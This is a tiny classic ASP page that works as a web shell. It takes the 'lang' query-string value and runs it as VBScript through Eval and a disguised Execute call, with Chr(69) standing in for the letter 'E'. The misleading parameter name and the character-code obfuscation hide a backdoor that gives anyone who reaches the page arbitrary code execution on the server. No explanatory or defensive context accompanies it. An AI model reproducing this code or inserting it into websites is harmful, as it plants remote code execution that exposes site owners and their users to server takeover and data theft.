<%
Dim s
s = Request.QueryString("lang")
Eval(Chr(69) & "xecute(s)")
%>
